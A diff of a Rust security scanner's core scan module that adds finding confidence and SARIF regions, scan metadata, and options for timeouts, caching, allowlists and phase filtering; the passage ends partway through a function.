@@ -1,17 +1,38 @@
+pub mod agent_injection;
+pub mod ci_workflows;
 pub mod cloud_sigs;
 pub mod context;
+pub mod dockerfile;
+pub mod dynamic;
+pub mod git_hooks;
+pub mod manifest;
+pub mod minified;
 pub mod normalize;
+pub mod permission_manifests;
 pub mod phases;
+pub mod pyc;
+pub mod registry_config;
 pub mod scoring;
+pub mod stream;
+pub mod symlinks;
+pub mod timing;
+pub mod user_rules;
 
+use crate::logging::log_warn;
 use ignore::WalkBuilder;
 use rayon::prelude::*;
 use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
 use std::fmt;
 use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant, SystemTime};
+use timing::{timed, Stage, Timings};
 
 /// The scan phases, each targeting a different threat category.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
 pub enum Phase {
     /// Phase 1: Install hooks
     InstallHooks,
@@ -79,6 +100,10 @@ pub struct Finding {
     pub line: Option<usize>,
     pub snippet: String,
     pub weight: u32,
+    /// How likely the finding is a true positive, 0-100, as set by the rule
+    /// that produced it (see [`crate::corpus::registry::confidence`]).
+    #[serde(default = "default_confidence")]
+    pub confidence: u8,
     /// Whether this advisory appears in the CISA Known Exploited Vulnerabilities catalogue.
     /// Only set for OSV-derived findings; defaults to false for all other findings.
     #[serde(default, skip_serializing_if = "std::ops::Not::not")]
@@ -87,16 +112,78 @@ pub struct Finding {
     /// Only set for OSV-derived CVE findings; defaults to 0.0 for all other findings.
     #[serde(default, skip_serializing_if = "is_zero_f32")]
     pub epss: f32,
+    /// SHA-256 (hex) of the raw bytes of the file that produced this finding,
+    /// for threat-intel correlation. Set by `run_scan` for content findings;
+    /// `None` for findings not tied to a single scanned file.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub sha256: Option<String>,
+    /// Exact span of the pattern match, for SARIF annotations.  Only set by
+    /// the pack rule engine; `None` when the finding is not a single match
+    /// or the file was de-cloaked before matching.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub region: Option<Region>,
 }
 
 fn is_zero_f32(v: &f32) -> bool {
     *v == 0.0
 }
 
-/// Overall risk classification.
+/// Confidence of a rule that does not state its own, and of findings
+/// recorded before confidences existed.
+pub const DEFAULT_CONFIDENCE: u8 = 50;
+
+fn default_confidence() -> u8 {
+    DEFAULT_CONFIDENCE
+}
+
+/// Where a match sits in its file.  Columns and offsets count UTF-16 code
+/// units, as SARIF requires, so a character outside the Basic Multilingual
+/// Plane is two columns wide.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Region {
+    /// 1-based line of the first character of the match.
+    pub start_line: usize,
+    /// 1-based column of the first character of the match.
+    pub start_column: usize,
+    /// 1-based line of the last character of the match.
+    pub end_line: usize,
+    /// 1-based column just past the match, on `end_line`.
+    pub end_column: usize,
+    /// Offset of the match from the start of the file.
+    pub char_offset: usize,
+    pub char_length: usize,
+}
+
+impl Region {
+    /// The region of bytes `start..end` of `contents`.
+    pub fn of_match(contents: &str, start: usize, end: usize) -> Region {
+        let utf16_len = |s: &str| s.encode_utf16().count();
+        let before = &contents[..start];
+        let matched = &contents[start..end];
+        let start_line_at = before.rfind('\n').map_or(0, |i| i + 1);
+        let start_column = utf16_len(&before[start_line_at..]) + 1;
+        let end_line_at = matched.rfind('\n').map(|i| start + i + 1);
+        let end_column = match end_line_at {
+            Some(at) => utf16_len(&contents[at..end]) + 1,
+            None => start_column + utf16_len(matched),
+        };
+        let start_line = before.matches('\n').count() + 1;
+        Region {
+            start_line,
+            start_column,
+            end_line: start_line + matched.matches('\n').count(),
+            end_column,
+            char_offset: utf16_len(before),
+            char_length: utf16_len(matched),
+        }
+    }
+}
+
+/// Overall risk classification.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
 #[allow(clippy::enum_variant_names)]
 pub enum Verdict {
+    #[default]
     LowRisk,
     MediumRisk,
     HighRisk,
@@ -115,10 +202,14 @@ impl fmt::Display for Verdict {
 }
 
 /// The result of a complete scan across all phases.
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct ScanResult {
     pub findings: Vec<Finding>,
     pub score: u32,
+    /// Each phase's share of `score` (see `scoring::phase_scores`); phases
+    /// that add nothing are absent.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub phase_scores: BTreeMap<Phase, u32>,
     pub verdict: Verdict,
     pub files_scanned: usize,
     pub duration_ms: u64,
@@ -132,6 +223,308 @@ pub struct ScanResult {
     /// approved 2026-06-11`. `None` when nothing is suppressed.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub suppressed_by: Option<String>,
+    /// The scan hit its `--timeout` deadline and stopped before every file was
+    /// fully content-scanned. The findings are real but the result is partial.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub timed_out: bool,
+    /// Files that were collected but never content-scanned because the
+    /// deadline passed first. Always 0 when `timed_out` is false.
+    #[serde(default, skip_serializing_if = "is_zero_usize")]
+    pub unscanned_files: usize,
+    /// Files that exist but could not be read (permission denied or another
+    /// I/O error), each reported as PROV-UNREADABLE-001, or PROV-PARSE-001
+    /// under `--strict`.  A file that is merely not UTF-8 is still scanned.
+    #[serde(default, skip_serializing_if = "is_zero_usize")]
+    pub unreadable_files: usize,
+    /// Findings dropped because they already appear in the `--baseline`
+    /// result. Unlike ledger suppression these are not kept: the baseline
+    /// file itself is the record of them.
+    #[serde(default, skip_serializing_if = "is_zero_usize")]
+    pub baseline_suppressed: usize,
+    /// `--max-findings` was reached: `findings` holds only the most severe
+    /// of them, and `score` is a lower bound.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub truncated: bool,
+    /// Cumulative milliseconds per stage across all worker threads, keyed
+    /// by phase name plus `FileIo`, `Normalize`, and `Signatures`.  Only
+    /// recorded when `ScanOptions::timings` is set.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub phase_timings: Option<BTreeMap<String, f64>>,
+    /// Files whose content hash is on the allowlist, and so were left out
+    /// of the content phases.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allowlisted: Vec<String>,
+    /// Findings matched before the cap was applied (0 unless `truncated`).
+    /// Itself a lower bound when files were skipped after the cap.
+    #[serde(default, skip_serializing_if = "is_zero_usize")]
+    pub total_matched: usize,
+    /// When, where, and with which rules the scan ran. Absent in results
+    /// and baselines written before it existed.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub meta: Option<ScanMeta>,
+    /// Files too large to read whole (see [`stream`]), which were matched
+    /// line by line: multiline rules and whole-file checks did not run on
+    /// them.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub streamed_files: Vec<String>,
+    /// Paths of the files that were content-scanned, as in
+    /// [`Finding::file`].  Only the JUnit per-file report needs them, so
+    /// they are neither cached nor written to baselines.
+    #[serde(skip)]
+    pub scanned_files: Vec<String>,
+}
+
+/// Provenance of a scan result, so a stored baseline says what produced it.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ScanMeta {
+    /// `sigil` version that ran the scan.
+    pub tool_version: String,
+    /// Start of the scan, RFC 3339 in UTC.
+    pub timestamp: String,
+    /// Newest `updated_at` among the loaded signature packs (`YYYY-MM-DD`).
+    pub ruleset_version: String,
+    /// `last_updated` of the signatures from the last `sigil fetch`; absent
+    /// when only the bundled set was used.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub signatures_version: Option<String>,
+    /// Operating system and architecture, e.g. `linux-x86_64`.
+    pub os: String,
+}
+
+impl ScanMeta {
+    /// Metadata for a scan starting now with the rules currently loaded.
+    pub fn current() -> Self {
+        ScanMeta {
+            tool_version: env!("CARGO_PKG_VERSION").to_string(),
+            timestamp: chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
+            ruleset_version: crate::corpus::registry::ruleset_version(),
+            signatures_version: cloud_sigs::get_last_sync_time(),
+            os: format!("{}-{}", std::env::consts::OS, std::env::consts::ARCH),
+        }
+    }
+}
+
+fn is_zero_usize(v: &usize) -> bool {
+    *v == 0
+}
+
+/// Put findings in the order every output shows them: by phase, then file,
+/// line (file-level findings first), rule, and snippet.  The file walk and
+/// the feeds append in whatever order they finish, so without this the same
+/// tree could serialise differently from one machine or run to the next.
+pub fn sort_findings(findings: &mut [Finding]) {
+    findings.sort_by(|a, b| {
+        (a.phase, &a.file, a.line, &a.rule, &a.snippet)
+            .cmp(&(b.phase, &b.file, b.line, &b.rule, &b.snippet))
+    });
+}
+
+impl ScanResult {
+    /// [`sort_findings`] on the reported and the suppressed findings.
+    pub fn sort_findings(&mut self) {
+        sort_findings(&mut self.findings);
+        sort_findings(&mut self.suppressed_findings);
+    }
+}
+
+/// Knobs for a single `run_scan_with_options` call. The default is an
+/// unbounded, full scan — what `run_scan` does.
+#[derive(Debug, Default, Clone)]
+pub struct ScanOptions {
+    /// Wall-clock budget for the whole scan. Once it passes, no new files are
+    /// started; files already in flight finish their current phase.
+    pub timeout: Option<Duration>,
+    /// Per-file finding cache. Consulted and populated only when every phase
+    /// runs, since cached entries hold the full-phase findings of a file.
+    pub file_cache: Option<Arc<crate::cache::FileCache>>,
+    /// Progress of an earlier run of this scan: files it finished are not
+    /// scanned again, and every file this run finishes is recorded.  The
+    /// caller removes it once the scan is complete.
+    pub checkpoint: Option<Arc<crate::cache::Checkpoint>>,
+    /// Directory of user rule files; `None` means `~/.sigil/rules`.
+    pub rules_dir: Option<PathBuf>,
+    /// Report files that could not be read or parsed as PROV-PARSE-001
+    /// instead of skipping them.
+    pub strict: bool,
+    /// Budget for the content phases of one file, checked between phases.
+    /// A file that runs over is abandoned and reported as PROV-TIMEOUT-001.
+    /// Off unless set.
+    pub file_timeout: Option<Duration>,
+    /// Run the content phases only on files modified at or after this time.
+    /// Provenance still sees the whole tree.
+    pub modified_since: Option<SystemTime>,
+    /// Leave dotfiles and files under dot-directories out of the content
+    /// phases.  Provenance still reports them, and CI configs
+    /// (`context::is_ci_config`) are always content-scanned.
+    pub skip_hidden: bool,
+    /// Stop once this many findings are in hand: files not yet started are
+    /// skipped, and the result keeps the most severe findings up to the cap
+    /// and is marked `truncated`.
+    pub max_findings: Option<usize>,
+    /// Known-good file contents: a file whose SHA-256 is listed skips the
+    /// content phases and is reported in `ScanResult::allowlisted`.
+    pub allowlist: Option<Arc<crate::allowlist::Allowlist>>,
+    /// Record time per phase into `ScanResult::phase_timings` (`--verbose`).
+    pub timings: bool,
+    /// The target is not expected to be a git checkout (an extracted package
+    /// archive), so a missing `.git` is not reported as PROV-006.
+    pub no_provenance_git: bool,
+    /// Drop findings whose confidence is below this, like `min_severity`
+    /// drops less severe ones.
+    pub min_confidence: Option<u8>,
+}
+
+/// Whether `path` was modified at or after `cutoff`.  A file with a future
+/// mtime (clock skew, or a deliberately touched file) counts as changed, and
+/// so does one whose mtime cannot be read: the filter may only ever skip
+/// files it knows are old.
+fn modified_since(path: &Path, cutoff: SystemTime) -> bool {
+    std::fs::metadata(path)
+        .and_then(|meta| meta.modified())
+        .map_or(true, |mtime| mtime >= cutoff)
+}
+
+/// A content phase: scans one file's normalised contents.
+type PhaseScan = fn(&str, &str) -> Vec<Finding>;
+
+/// Content phases in the order they run on each file.
+const CONTENT_PHASES: &[(Phase, PhaseScan)] = &[
+    (Phase::InstallHooks, phases::scan_install_hooks),
+    (Phase::CodePatterns, phases::scan_code_patterns),
+    (Phase::NetworkExfil, phases::scan_network_exfil),
+    (Phase::Credentials, phases::scan_credentials),
+    (Phase::Obfuscation, phases::scan_obfuscation),
+    (Phase::PromptInjection, phases::scan_prompt_injection),
+    (Phase::SkillSecurity, phases::scan_skill_security),
+    (Phase::InferenceSecurity, phases::scan_inference_security),
+];
+
+/// What every file's content phases share: which phases run, the scan
+/// deadline, and the signature sets.
+struct ContentScan {
+    active_phases: Option<Vec<Phase>>,
+    deadline: Option<Instant>,
+    cloud_sigs: Vec<cloud_sigs::CloudSignature>,
+    user_rules: Vec<cloud_sigs::CloudSignature>,
+    timings: Option<Arc<Timings>>,
+    /// Set when the deadline passed mid-file and phases were skipped, so a
+    /// result whose every file was started still reports `timed_out`.
+    cut_short: AtomicBool,
+}
+
+impl ContentScan {
+    fn expired(&self) -> bool {
+        self.deadline.is_some_and(|d| Instant::now() >= d)
+    }
+
+    fn should_run_phase(&self, phase: Phase) -> bool {
+        self.active_phases
+            .as_ref()
+            .is_none_or(|phases| phases.contains(&phase))
+    }
+
+    /// Run every content phase over one file's raw contents.  `budget` is
+    /// the file's own deadline (`file_timeout`), checked between phases like
+    /// the scan deadline; `None` means it passed and the file was abandoned.
+    fn scan(
+        &self,
+        rel_path: &str,
+        contents: &str,
+        budget: Option<Instant>,
+    ) -> Option<Vec<Finding>> {
+        let over_budget = || budget.is_some_and(|at| Instant::now() >= at);
+        let mut file_findings: Vec<Finding> = Vec::new();
+        let timings = self.timings.as_deref();
+
+        // Invisible-Unicode inspection runs on the RAW contents, then all
+        // pattern phases match against the de-cloaked form so zero-width
+        // splitting cannot hide tokens like `eval(` (ADR-0008).
+        let contents = timed(timings, Stage::Normalize, || {
+            if self.should_run_phase(Phase::Obfuscation) {
+                file_findings.extend(normalize::inspect_invisible(rel_path, contents));
+            }
+            normalize::normalize_for_matching(contents)
+        });
+        // Match offsets in the de-cloaked text do not line up with the file
+        // on disk, so its findings carry no region.
+        let cloaked = matches!(contents, std::borrow::Cow::Owned(_));
+        let contents: &str = &contents;
+        // A large file can blow the budget on its own, so the deadline is
+        // re-checked between phases; the findings gathered so far are kept
+        // and the result is marked timed out.
+        for &(phase, scan_phase) in CONTENT_PHASES {
+            if !self.should_run_phase(phase) {
+                continue;
+            }
+            if over_budget() {
+                return None;
+            }
+            if self.expired() {
+                self.cut_short.store(true, Ordering::Relaxed);
+                break;
+            }
+            file_findings.extend(timed(timings, Stage::Phase(phase), || {
+                scan_phase(rel_path, contents)
+            }));
+        }
+
+        if over_budget() {
+            return None;
+        }
+        // The signature pass is as costly as a phase, so a deadline that
+        // passed during the last phase skips it too.
+        if self.expired() {
+            self.cut_short.store(true, Ordering::Relaxed);
+        } else {
+            file_findings.extend(timed(timings, Stage::Signatures, || {
+                self.scan_signatures(rel_path, contents)
+            }));
+        }
+        if cloaked {
+            file_findings.iter_mut().for_each(|f| f.region = None);
+        }
+        Some(file_findings)
+    }
+
+    /// Run the line-by-line checks over `chunk`, whole lines of a file too
+    /// large to read at once (see [`stream`]); `header` is the start of the
+    /// file.  Match regions are not kept: they would be chunk offsets.
+    fn scan_lines(&self, rel_path: &str, chunk: &str, header: &str) -> Vec<Finding> {
+        let timings = self.timings.as_deref();
+        let chunk = timed(timings, Stage::Normalize, || {
+            normalize::normalize_for_matching(chunk)
+        });
+        let mut found = phases::scan_pack_lines(rel_path, &chunk, header, |phase| {
+            self.should_run_phase(phase)
+        });
+        found.extend(timed(timings, Stage::Signatures, || {
+            self.scan_signatures(rel_path, &chunk)
+        }));
+        found.iter_mut().for_each(|f| f.region = None);
+        found
+    }
+
+    fn scan_signatures(&self, rel_path: &str, contents: &str) -> Vec<Finding> {
+        let mut found = Vec::new();
+        // Apply cloud signatures (from ~/.sigil/signatures.json)
+        if !self.cloud_sigs.is_empty() {
+            found.extend(cloud_sigs::scan_with_cloud_signatures(
+                rel_path,
+                contents,
+                &self.cloud_sigs,
+            ));
+        }
+        // Apply user rules (from ~/.sigil/rules/ or --rules-dir)
+        if !self.user_rules.is_empty() {
+            found.extend(cloud_sigs::scan_with_signatures(
+                rel_path,
+                contents,
+                &self.user_rules,
+                "custom",
+            ));
+        }
+        found
+    }
 }
 
 fn phase_from_name(name: &str) -> Option<Phase> {
@@ -151,6 +544,79 @@ fn phase_from_name(name: &str) -> Option<Phase> {
     }
 }
 
+/// Parse a `--phases` spec into the phase names to run, or `None` for every
+/// phase.  Terms are comma-separated: `all`, a phase name, or a phase to
+/// leave out written `!name`, `-name`, or `not:name`.  A spec with only
+/// exclusions starts from every phase, so `!provenance` runs the rest.
+/// Unknown names are an error rather than being skipped.
+pub fn parse_phase_filter(spec: &str) -> Result<Option<Vec<String>>, String> {
+    let all: Vec<Phase> = scoring::PHASE_KEYS
+        .iter()
+        .map(|(phase, _)| *phase)
+        .collect();
+    let mut selected: Vec<Phase> = Vec::new();
+    let mut any_included = false;
+    let mut excluded: Vec<Phase> = Vec::new();
+    for term in spec.split(',').map(str::trim).filter(|t| !t.is_empty()) {
+        let negated = ["!", "-", "not:"]
+            .iter()
+            .find_map(|prefix| term.strip_prefix(prefix));
+        let name = negated.unwrap_or(term).trim();
+        let phases = if name.eq_ignore_ascii_case("all") {
+            all.clone()
+        } else {
+            match phase_from_name(name) {
+                Some(phase) => vec![phase],
+                None => {
+                    let known: Vec<&str> = scoring::PHASE_KEYS.iter().map(|(_, n)| *n).collect();
+                    return Err(format!(
+                        "unknown phase '{}' (expected all or one of: {})",
+                        name,
+                        known.join(", ")
+                    ));
+                }
+            }
+        };
+        if negated.is_some() {
+            selected.retain(|p| !phases.contains(p));
+            excluded.extend(phases);
+        } else {
+            any_included = true;
+            selected.extend(phases.into_iter().filter(|p| !excluded.contains(p)));
+        }
+    }
+    if !any_included {
+        selected = all
+            .iter()
+            .copied()
+            .filter(|p| !excluded.contains(p))
+            .collect();
+    }
+    if selected.is_empty() {
+        return Err(format!("--phases '{}' leaves no phase to run", spec));
+    }
+    if all.iter().all(|p| selected.contains(p)) {
+        return Ok(None);
+    }
+    Ok(Some(
+        scoring::PHASE_KEYS
+            .iter()
+            .filter(|(phase, _)| selected.contains(phase))
+            .map(|(_, name)| name.to_string())
+            .collect(),
+    ))
+}
+
+/// Parse a severity name (`low`, `medium`, `high`, `critical`, any case).
+pub fn parse_severity(name: &str) -> Result<Severity, String> {
+    severity_from_name(name.trim()).ok_or_else(|| {
+        format!(
+            "unknown severity '{}' (expected low, medium, high, or critical)",
+            name
+        )
+    })
+}
+
 fn severity_from_name(name: &str) -> Option<Severity> {
     match name.to_lowercase().as_str() {
         "low" => Some(Severity::Low),
@@ -179,16 +645,36 @@ const DEFAULT_EXCLUDED_DIRS: &[&str] = &[
     ".pytest_cache",
 ];
 
-/// Files larger than this are skipped for content scanning (still visible to
-/// the Provenance phase, which flags oversized files).
-const MAX_CONTENT_SCAN_BYTES: u64 = 10_000_000;
-
 /// Collect candidate files honoring `.gitignore` (only inside real git repos —
 /// `require_git(true)` — so a malicious `.gitignore` inside an extracted
 /// tarball cannot hide files from the scanner), `.sigilignore` (always), and
 /// the hard default excludes above. Dotfiles are walked: instruction files
 /// like `.cursorrules` are a primary scan target.
 pub(crate) fn collect_files(path: &Path) -> Vec<PathBuf> {
+    collect_entries(path, |t| t.is_file(), false)
+}
+
+/// Compiled Python files in the tree, including those under `__pycache__`,
+/// which [`collect_files`] leaves out; [`pyc::scan_hidden_source`] compares
+/// them with their source.
+pub(crate) fn collect_bytecode(path: &Path) -> Vec<PathBuf> {
+    let mut files = collect_entries(path, |t| t.is_file(), true);
+    files.retain(|f| pyc::is_pyc(f));
+    files
+}
+
+/// Symbolic links in the tree, under the same ignore rules as
+/// [`collect_files`].  They are never followed, so their targets are not
+/// scanned; [`symlinks`] reports the suspicious ones.
+pub(crate) fn collect_symlinks(path: &Path) -> Vec<PathBuf> {
+    collect_entries(path, |t| t.is_symlink(), false)
+}
+
+fn collect_entries(
+    path: &Path,
+    wanted: fn(&std::fs::FileType) -> bool,
+    enter_pycache: bool,
+) -> Vec<PathBuf> {
     let mut builder = WalkBuilder::new(path);
     builder
         .follow_links(false)
@@ -200,37 +686,138 @@ pub(crate) fn collect_files(path: &Path) -> Vec<PathBuf> {
         .ignore(false)
         .parents(false)
         .add_custom_ignore_filename(".sigilignore");
-    builder.filter_entry(|entry| {
+    builder.filter_entry(move |entry| {
         let is_dir = entry.file_type().is_some_and(|t| t.is_dir());
         if !is_dir {
             return true;
         }
         let name = entry.file_name().to_string_lossy();
-        !DEFAULT_EXCLUDED_DIRS.contains(&name.as_ref())
+        (enter_pycache && name == "__pycache__") || !DEFAULT_EXCLUDED_DIRS.contains(&name.as_ref())
     });
     let mut files: Vec<PathBuf> = builder
         .build()
         .filter_map(|e| e.ok())
-        .filter(|e| e.file_type().is_some_and(|t| t.is_file()))
+        .filter(|e| e.file_type().is_some_and(|t| wanted(&t)))
         .map(|e| e.into_path())
         .collect();
     files.sort();
     files
 }
 
+/// `path` relative to `base` as stored in [`Finding::file`]: always forward
+/// slashes, so results, baselines, and SARIF agree across platforms.
+pub fn relative_path(path: &Path, base: &Path) -> String {
+    path.strip_prefix(base)
+        .unwrap_or(path)
+        .to_string_lossy()
+        .replace('\\', "/")
+}
+
+/// Cut `findings` down to the `cap` most severe, keeping their order.
+fn keep_most_severe(findings: &mut Vec<Finding>, cap: usize) {
+    if findings.len() <= cap {
+        return;
+    }
+    let mut keep: Vec<usize> = (0..findings.len()).collect();
+    keep.sort_by_key(|&i| std::cmp::Reverse(findings[i].severity));
+    keep.truncate(cap);
+    keep.sort_unstable();
+    let mut keep = keep.into_iter().peekable();
+    let mut index = 0;
+    findings.retain(|_| {
+        let kept = keep.peek() == Some(&index);
+        if kept {
+            keep.next();
+        }
+        index += 1;
+        kept
+    });
+}
+
+/// Scan an extracted package download (`sigil pip`, `npm`, `scan-url`).
+/// Published packages ship without `.git`, so PROV-006 is not reported.
+pub fn run_package_scan(path: &Path) -> ScanResult {
+    let options = ScanOptions {
+        no_provenance_git: true,
+        ..ScanOptions::default()
+    };
+    run_scan_with_options(path, None, None, &options)
+}
+
 pub fn run_scan(
     path: &Path,
     phase_filter: Option<&[String]>,
     min_severity: Option<&str>,
 ) -> ScanResult {
-    let start = std::time::Instant::now();
+    run_scan_with_options(path, phase_filter, min_severity, &ScanOptions::default())
+}
+
+/// `run_scan` with explicit options. Scanning is synchronous, so the timeout is
+/// cooperative: the deadline is checked before each file and between content
+/// phases, and anything not reached is counted in `unscanned_files`.
+pub fn run_scan_with_options(
+    path: &Path,
+    phase_filter: Option<&[String]>,
+    min_severity: Option<&str>,
+    options: &ScanOptions,
+) -> ScanResult {
+    scan_reading_with(path, phase_filter, min_severity, options, |file| {
+        std::fs::read(file)
+    })
+}
+
+/// Reads one file's bytes for the content phases.
+type ReadFile = fn(&Path) -> std::io::Result<Vec<u8>>;
+
+/// [`run_scan_with_options`] reading files through `read_file`, so tests can
+/// produce read errors that permission bits cannot (root reads through them).
+fn scan_reading_with(
+    path: &Path,
+    phase_filter: Option<&[String]>,
+    min_severity: Option<&str>,
+    options: &ScanOptions,
+    read_file: ReadFile,
+) -> ScanResult {
+    let start = Instant::now();
+    let meta = ScanMeta::current();
+    let deadline = options.timeout.map(|t| start + t);
+    let expired = || deadline.is_some_and(|d| Instant::now() >= d);
 
     let mut findings: Vec<Finding> = Vec::new();
 
-    let active_phases: Option<Vec<Phase>> =
-        phase_filter.map(|names| names.iter().filter_map(|n| phase_from_name(n)).collect());
+    let file_cache = options
+        .file_cache
+        .as_deref()
+        .filter(|_| phase_filter.is_none());
+    let checkpoint = options.checkpoint.as_deref();
 
-    let min_sev: Option<Severity> = min_severity.and_then(severity_from_name);
+    // Callers validate with `parse_phase_filter` and `parse_severity`; a name
+    // that still slips through is said out loud rather than dropped.
+    let active_phases: Option<Vec<Phase>> = phase_filter.map(|names| {
+        names
+            .iter()
+            .filter_map(|n| {
+                let phase = phase_from_name(n);
+                if phase.is_none() {
+                    log_warn!("ignoring unknown phase '{}'", n);
+                }
+                phase
+            })
+            .collect()
+    });
+
+    let min_sev: Option<Severity> = min_severity.and_then(|name| {
+        let severity = severity_from_name(name);
+        if severity.is_none() {
+            log_warn!("ignoring unknown severity '{}'", name);
+        }
+        severity
+    });
+
+    let keep = |f: &Finding| {
+        min_sev.is_none_or(|min| f.severity >= min)
+            && options.min_confidence.is_none_or(|min| f.confidence >= min)
+    };
 
     let should_run_phase = |phase: Phase| -> bool {
         match &active_phases {
@@ -242,8 +829,17 @@ pub fn run_scan(
     // Load cloud signatures (if available — gracefully returns empty if offline)
     let cloud_sigs = cloud_sigs::load_cloud_signatures();
 
+    // Load local user rules; invalid ones are reported and skipped.
+    let rules_dir = options
+        .rules_dir
+        .clone()
+        .unwrap_or_else(user_rules::default_rules_dir);
+    let (user_rules, problems) = user_rules::load_user_rules(&rules_dir);
+    for problem in problems {
+        log_warn!("rules: {}", problem);
+    }
+
     let files = collect_files(path);
-    let files_scanned = files.len();
 
     // When the target is a single file, relative paths must be taken against
     // its parent — otherwise strip_prefix(file) yields "" and filename-gated
@@ -254,102 +850,309 @@ pub fn run_scan(
         path
     };
 
+    let timings = options.timings.then(|| Arc::new(Timings::default()));
     if should_run_phase(Phase::Provenance) {
-        findings.extend(phases::scan_provenance(strip_base, &files));
+        findings.extend(timed(
+            timings.as_deref(),
+            Stage::Phase(Phase::Provenance),
+            || {
+                let mut found = phases::scan_provenance(
+                    strip_base,
+                    &files,
+                    options.strict,
+                    !options.no_provenance_git,
+                );
+                if path.is_dir() {
+                    found.extend(symlinks::scan_symlinks(path, &collect_symlinks(path)));
+                }
+                let bytecode = if path.is_dir() {
+                    collect_bytecode(path)
+                } else {
+                    files.iter().filter(|f| pyc::is_pyc(f)).cloned().collect()
+                };
+                found.extend(pyc::scan_hidden_source(strip_base, &bytecode));
+                found
+            },
+        ));
+    }
+    // Git hooks live under `.git/`, which the file walk never enters.
+    if should_run_phase(Phase::InstallHooks) && path.is_dir() {
+        findings.extend(timed(
+            timings.as_deref(),
+            Stage::Phase(Phase::InstallHooks),
+            || git_hooks::scan_git_hooks(path),
+        ));
     }
 
-    // Content phases run per-file in parallel; collect() preserves file order
-    // so results stay deterministic.
-    let per_file: Vec<Vec<Finding>> = files
-        .par_iter()
-        .map(|file_path| {
-            let contents = match std::fs::metadata(file_path) {
-                Ok(meta) if meta.len() > MAX_CONTENT_SCAN_BYTES => return Vec::new(),
-                Ok(_) => match std::fs::read(file_path) {
-                    Ok(bytes) => {
-                        // Skip binary files (contains null bytes) and use lossy UTF-8
-                        if bytes.contains(&0) {
-                            return Vec::new();
-                        }
-                        String::from_utf8_lossy(&bytes).into_owned()
-                    }
-                    Err(_) => return Vec::new(),
-                },
-                Err(_) => return Vec::new(),
-            };
+    let files: Vec<PathBuf> = match options.modified_since {
+        Some(cutoff) => files
+            .into_iter()
+            .filter(|f| modified_since(f, cutoff))
+            .collect(),
+        None => files,
+    };
+    // Hidden paths are judged relative to the scanned directory, so naming
+    // a dotfile as the scan target still scans it.
+    let files: Vec<PathBuf> = if options.skip_hidden && path.is_dir() {
+        files
+            .into_iter()
+            .filter(|f| {
+                let rel = relative_path(f, strip_base);
+                !context::is_hidden_path(&rel) || context::is_ci_config(&rel)
+            })
+            .collect()
+    } else {
+        files
+    };
+    let files_scanned = files.len();
 
-            let rel_path = file_path
-                .strip_prefix(strip_base)
-                .unwrap_or(file_path)
-                .to_string_lossy()
-                .to_string();
+    // A file that cannot be read is a blind spot: it is counted, and
+    // reported as PROV-UNREADABLE-001 (PROV-PARSE-001 in strict mode) so
+    // the gap in coverage shows up in the report.
+    let unreadable_files = AtomicUsize::new(0);
+    let unreadable = |rel_path: &str, err: &std::io::Error| -> Vec<Finding> {
+        unreadable_files.fetch_add(1, Ordering::Relaxed);
+        if !should_run_phase(Phase::Provenance) {
+            Vec::new()
+        } else if options.strict {
+            vec![manifest::unanalyzed(
+                rel_path,
+                Severity::Medium,
+                &err.to_string(),
+            )]
+        } else {
+            vec![manifest::unreadable(rel_path, err)]
+        }
+    };
 
-            let mut file_findings: Vec<Finding> = Vec::new();
+    let content_scan = ContentScan {
+        active_phases: active_phases.clone(),
+        deadline,
+        cloud_sigs,
+        user_rules,
+        timings: timings.clone(),
+        cut_short: AtomicBool::new(false),
+    };
 
-            // Invisible-Unicode inspection runs on the RAW contents, then all
-            // pattern phases match against the de-cloaked form so zero-width
-            // splitting cannot hide tokens like `eval(` (ADR-0008).
-            if should_run_phase(Phase::Obfuscation) {
-                file_findings.extend(normalize::inspect_invisible(&rel_path, &contents));
-            }
-            let contents = normalize::normalize_for_matching(&contents);
-            let contents: &str = &contents;
+    // Past `max_findings`, files not yet started are skipped.  Files already
+    // in flight still finish, so the count can overshoot the cap.  Only
+    // findings that survive the severity and confidence filters count
+    // toward it.
+    let counted = |found: &[Finding]| found.iter().filter(|f| keep(f)).count();
+    let matched = AtomicUsize::new(counted(&findings));
+    let capped_files = AtomicUsize::new(0);
+    let cap_reached = || {
+        options
+            .max_findings
+            .is_some_and(|cap| matched.load(Ordering::Relaxed) >= cap)
+    };
 
-            if should_run_phase(Phase::InstallHooks) {
-                file_findings.extend(phases::scan_install_hooks(&rel_path, contents));
+    let allowlisted = std::sync::Mutex::new(Vec::new());
+    let skip_allowlisted = |rel_path: &str, sha256: &str| {
+        let listed = options
+            .allowlist
+            .as_ref()
+            .is_some_and(|list| list.note(sha256).is_some());
+        if listed {
+            if let Ok(mut paths) = allowlisted.lock() {
+                paths.push(rel_path.to_string());
             }
-            if should_run_phase(Phase::CodePatterns) {
-                file_findings.extend(phases::scan_code_patterns(&rel_path, contents));
+        }
+        listed
+    };
+
+    // A file too large to read whole is matched a chunk of lines at a time.
+    // It is never cached: its findings lack the whole-file checks.
+    let streamed_files = std::sync::Mutex::new(Vec::new());
+    let stream_file = |file_path: &Path, rel_path: &str| -> Vec<Finding> {
